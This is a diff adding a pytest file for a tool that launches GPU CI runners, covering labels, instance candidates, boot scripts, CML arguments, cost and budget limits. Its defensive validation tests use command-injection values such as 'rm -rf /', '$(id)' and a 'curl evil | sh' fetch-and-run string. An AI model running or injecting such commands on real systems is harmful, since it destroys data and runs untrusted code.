@@ -1,0 +1,273 @@
+"""GPU runners without services: labels, candidates, user data, CML argv, cost and budget."""
+
+from __future__ import annotations
+
+import base64
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from modelops.cli import main
+from modelops.errors import InputError, ServiceError
+from modelops.runners.cml import CmlOptions, cml_launch_argv
+from modelops.runners.cost import cost_estimate, load_prices, worst_case_cost
+from modelops.runners.ec2 import RunContext, StartOptions, make_label
+from modelops.runners.userdata import render_user_data
+
+REPO_ROOT = Path(__file__).resolve().parents[2]
+CTX = RunContext(repository="acme/models", run_id="77", run_attempt="2", job="train-gpu")
+JIT = base64.b64encode(b"single-use runner config").decode()
+
+
+@pytest.fixture(autouse=True)
+def _no_github(monkeypatch: pytest.MonkeyPatch) -> None:
+    """No test here may reach a real GitHub or AWS: point both at a closed port."""
+    monkeypatch.setenv("GITHUB_API_URL", "http://127.0.0.1:9")
+    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
+    for var in ("GITHUB_TOKEN", "GITHUB_REPOSITORY", "GITHUB_RUN_ID", "MODELOPS_GPU_PRICES"):
+        monkeypatch.delenv(var, raising=False)
+
+
+def test_label_is_unique_and_names_the_run() -> None:
+    """Labels carry run, attempt and job, and differ between two starts of the same job."""
+    first, second = make_label(CTX), make_label(CTX)
+    assert first.startswith("modelops-77-2-train-gpu-")
+    assert first != second
+
+
+def test_candidates_try_spot_types_by_subnet_then_on_demand() -> None:
+    """Spot over types × subnets in order comes first, on-demand after when fallback is on."""
+    options = StartOptions(
+        context=CTX,
+        launch_template="modelops-gpu",
+        instance_types=("g5.xlarge", "g4dn.xlarge"),
+        subnet_ids=("subnet-0a", "subnet-0b"),
+    )
+    order = [(c.instance_type, c.subnet_id, c.spot) for c in options.candidates()]
+    assert order[:4] == [
+        ("g5.xlarge", "subnet-0a", True),
+        ("g5.xlarge", "subnet-0b", True),
+        ("g4dn.xlarge", "subnet-0a", True),
+        ("g4dn.xlarge", "subnet-0b", True),
+    ]
+    assert [spot for *_, spot in order[4:]] == [False] * 4
+    no_fallback = StartOptions(
+        context=CTX, launch_template="lt-0abc", instance_types=("g5.xlarge",),
+        on_demand_fallback=False,
+    )  # fmt: skip
+    assert [(c.subnet_id, c.spot) for c in no_fallback.candidates()] == [(None, True)]
+
+
+@pytest.mark.parametrize(
+    ("kwargs", "field"),
+    [
+        ({"instance_types": ("g5.xlarge; rm -rf /",)}, "--instance-types"),
+        ({"subnet_ids": ("subnet-$(id)",)}, "--subnet-ids"),
+        ({"max_minutes": 0}, "--max-minutes"),
+        ({"launch_template": "a b"}, "--launch-template"),
+    ],
+)
+def test_start_options_refuse_bad_values(kwargs: dict[str, object], field: str) -> None:
+    """Malformed instance types, subnets, lifetimes or templates are refused by field."""
+    base: dict[str, object] = {
+        "context": CTX, "launch_template": "modelops-gpu", "instance_types": ("g5.xlarge",),
+    }  # fmt: skip
+    with pytest.raises(InputError) as err:
+        StartOptions(**{**base, **kwargs})  # type: ignore[arg-type]
+    assert err.value.field == field
+
+
+def test_user_data_arms_the_timer_before_anything_else() -> None:
+    """The first command is the hard shutdown; the JIT config is passed to run.sh."""
+    script = render_user_data(jitconfig=JIT, max_minutes=45)
+    commands = [ln for ln in script.splitlines() if ln and not ln.startswith("#")]
+    assert commands[0] == "shutdown -h +45"
+    assert commands[1] == "trap 'shutdown -h now' EXIT"
+    assert f"JITCONFIG={JIT}" in commands
+    assert "./run.sh --jitconfig" in commands[-1]
+
+
+def test_user_data_verifies_a_downloaded_runner() -> None:
+    """A runner downloaded at boot is checked against its sha256 before it is unpacked."""
+    digest = "a" * 64
+    script = render_user_data(
+        jitconfig=JIT, max_minutes=5, runner_url="https://example.test/r.tgz", runner_sha256=digest
+    )
+    assert script.index("sha256sum -c") < script.index("tar -xzf")
+    with pytest.raises(InputError):
+        render_user_data(jitconfig=JIT, max_minutes=5, runner_url="https://example.test/r.tgz")
+
+
+def test_user_data_refuses_a_config_that_is_not_base64() -> None:
+    """A JIT config with shell syntax in it is never embedded in the script."""
+    with pytest.raises(ServiceError):
+        render_user_data(jitconfig="abc'; curl evil | sh; '", max_minutes=5)
+
+
+def test_cml_argv_has_the_limits_and_tags() -> None:
+    """The CML command is single-use, spot, idle-limited, tagged, with the hard shutdown."""
+    argv = cml_launch_argv(
+        CmlOptions(
+            context=CTX, region="eu-west-1", instance_type="g5.xlarge", label="modelops-77-x",
+            expires_at="2030-01-01T00:00:00Z", max_minutes=20, cloud_gpu="tesla",
+            idle_timeout_s=120, hdd_size_gb=100,
+        )
+    )  # fmt: skip
+    assert argv[:3] == ["cml", "runner", "launch"]
+
+    def value(flag: str) -> str:
+        return argv[argv.index(flag) + 1]
+
+    assert value("--cloud") == "aws" and value("--cloud-region") == "eu-west-1"
+    assert value("--cloud-type") == "g5.xlarge" and value("--cloud-gpu") == "tesla"
+    assert value("--labels") == "modelops-77-x" and value("--idle-timeout") == "120"
+    assert value("--cloud-hdd-size") == "100"
+    assert "--single" in argv and "--cloud-spot" in argv
+    startup = base64.b64decode(value("--cloud-startup-script")).decode()
+    assert "shutdown -h +20" in startup
+    metadata = [argv[i + 1] for i, a in enumerate(argv) if a == "--cloud-metadata"]
+    assert "modelops:run-id=77" in metadata and "modelops:repository=acme/models" in metadata
+
+
+@pytest.mark.parametrize(
+    ("override", "field"),
+    [
+        ({"label": "x; rm -rf ~"}, "--label"),
+        ({"region": "us-east-1 --cloud gcp"}, "--aws-region"),
+        ({"instance_type": "$(curl evil)"}, "--instance-types"),
+        ({"cloud_gpu": "a100"}, "--cloud-gpu"),
+    ],
+)
+def test_cml_argv_refuses_untrusted_values(override: dict[str, str], field: str) -> None:
+    """Values that are not plain labels, regions or types never reach the command line."""
+    base = {"context": CTX, "region": "us-east-1", "instance_type": "g5.xlarge",
+            "label": "ok", "expires_at": "2030-01-01T00:00:00Z"}  # fmt: skip
+    with pytest.raises(InputError) as err:
+        cml_launch_argv(CmlOptions(**{**base, **override}))  # type: ignore[arg-type]
+    assert err.value.field == field
+
+
+def test_cml_command_cli_prints_argv(capsys: pytest.CaptureFixture[str]) -> None:
+    """`runners cml-command` prints the argv as JSON, the label unique per run."""
+    code = main([
+        "runners", "cml-command", "--repository", "acme/models", "--run-id", "5",
+        "--aws-region", "us-east-1", "--instance-types", "g5.xlarge", "--spot",
+        "--max-minutes", "15",
+    ])  # fmt: skip
+    assert code == 0
+    argv = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
+    assert argv[argv.index("--labels") + 1].startswith("modelops-5-1-")
+    assert "--cloud-spot" in argv
+
+
+def test_cost_is_price_times_runtime() -> None:
+    """The estimate is the table's hourly price times the runtime, spot or on-demand."""
+    table = json.loads((REPO_ROOT / "src/modelops/runners/prices.json").read_text())
+    row = table["instances"]["g5.xlarge"]
+    spot = cost_estimate("g5.xlarge", 1800, spot=True)
+    assert spot["cost_usd"] == round(row["spot"] / 2, 4)
+    on_demand = cost_estimate("g5.xlarge", 7200, spot=False)
+    assert on_demand["cost_usd"] == round(row["on_demand"] * 2, 4)
+    assert cost_estimate("g5.xlarge", 10, spot=False)["billed_seconds"] == 60.0
+
+
+def test_price_table_override_and_errors(tmp_path: Path, monkeypatch, capsys) -> None:
+    """MODELOPS_GPU_PRICES replaces the table; a bad row is named by file and field, exit 2."""
+    prices = tmp_path / "prices.json"
+    prices.write_text(json.dumps({"instances": {"x1.big": {"on_demand": 6.0, "spot": 3.0}}}))
+    monkeypatch.setenv("MODELOPS_GPU_PRICES", str(prices))
+    assert load_prices() == {"x1.big": {"on_demand": 6.0, "spot": 3.0}}
+    assert main(["runners", "cost", "--instance-type", "x1.big", "--minutes", "30"]) == 0
+    assert "$3.0000" in capsys.readouterr().out
+    prices.write_text(json.dumps({"instances": {"x1.big": {"on_demand": "cheap", "spot": 1}}}))
+    assert main(["runners", "cost", "--instance-type", "x1.big", "--minutes", "1"]) == 2
+    err = capsys.readouterr().err
+    assert str(prices) in err and "instances.x1.big.on_demand" in err
+
+
+def test_worst_case_includes_on_demand_fallback() -> None:
+    """With fallback allowed, the worst case is the dearest type at on-demand prices."""
+    prices = load_prices()
+    worst = worst_case_cost(["g4dn.xlarge", "g5.xlarge"], 60, spot=True, on_demand_fallback=True)
+    assert worst["instance_type"] == "g5.xlarge" and worst["market"] == "on-demand"
+    assert worst["cost_usd"] == round(prices["g5.xlarge"]["on_demand"], 4)
+    spot_only = worst_case_cost(["g5.xlarge"], 60, spot=True, on_demand_fallback=False)
+    assert spot_only["market"] == "spot"
+
+
+def _project_with_budget(tmp_path: Path, compute: str) -> Path:
+    (tmp_path / "pipelines").mkdir()
+    spec = (REPO_ROOT / "pipelines" / "digits.yaml").read_text()
+    start = spec.index("  compute:")
+    end = spec.index("\n\n", start)
+    (tmp_path / "pipelines" / "digits.yaml").write_text(spec[:start] + compute + spec[end:])
+    return tmp_path
+
+
+START = ["runners", "start", "--repository", "acme/models", "--run-id", "1",
+         "--launch-template", "modelops-gpu", "--model", "digits"]  # fmt: skip
+
+
+def test_start_refuses_more_minutes_than_the_budget(tmp_path, monkeypatch, capsys) -> None:
+    """`start --max-minutes` above train.compute.max_minutes is refused before any call."""
+    monkeypatch.chdir(_project_with_budget(
+        tmp_path, "  compute:\n    type: gpu\n    instance_types: [g5.xlarge]\n    max_minutes: 30"
+    ))  # fmt: skip
+    monkeypatch.setenv("GITHUB_TOKEN", "ghs_secret")
+    assert main([*START, "--max-minutes", "31"]) == 2
+    err = capsys.readouterr().err
+    assert "pipelines/digits.yaml" in err and "train.compute.max_minutes" in err
+    assert "exceeds the run's budget of 30 minutes" in err
+
+
+def test_start_refuses_a_run_that_could_exceed_max_cost(tmp_path, monkeypatch, capsys) -> None:
+    """A worst case (dearest type, on-demand, full lifetime) over max_cost_usd is refused."""
+    monkeypatch.chdir(_project_with_budget(
+        tmp_path,
+        "  compute:\n    type: gpu\n    instance_types: [g5.xlarge]\n    max_minutes: 120\n"
+        "    max_cost_usd: 1.0",
+    ))  # fmt: skip
+    assert main(START) == 2
+    err = capsys.readouterr().err
+    assert "train.compute.max_cost_usd" in err and "g5.xlarge on-demand for 120 min" in err
+
+
+def test_start_without_token_is_a_clear_error(capsys) -> None:
+    """Without GITHUB_TOKEN start stops at once with a hint about App tokens, exit 2."""
+    code = main(["runners", "start", "--repository", "acme/models", "--run-id", "1",
+                 "--launch-template", "modelops-gpu", "--instance-types", "g5.xlarge"])  # fmt: skip
+    err = capsys.readouterr().err
+    assert code == 2 and "GITHUB_TOKEN" in err and "App" in err
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["runners", "stop"],
+        ["runners", "stop", "--repository", "acme/models", "--run-id", "abc"],
+        ["runners", "start", "--launch-template", "x"],
+        ["runners", "cost", "--instance-type", "g5.xlarge", "--minutes", "1", "--spot", "maybe"],
+    ],
+)
+def test_bad_runner_arguments_exit_2(argv: list[str], capsys) -> None:
+    """Missing run context or malformed flags end with one error line and exit 2."""
+    assert main(argv) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and "Traceback" not in err
+
+
+@pytest.mark.parametrize("action", ["start", "stop", "janitor", "cml-command", "cost"])
+def test_every_runner_action_has_help(action: str) -> None:
+    """Each action documents itself with --help and loads no boto3 to do so."""
+    code = (
+        "import sys\nfrom modelops.cli import main\n"
+        f"try:\n    main(['runners', '{action}', '--help'])\nexcept SystemExit as e:\n"
+        "    assert e.code == 0\n"
+        "print('boto3' in sys.modules)\n"
+    )
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert "usage: modelops runners" in out.stdout
+    assert out.stdout.strip().splitlines()[-1] == "False"
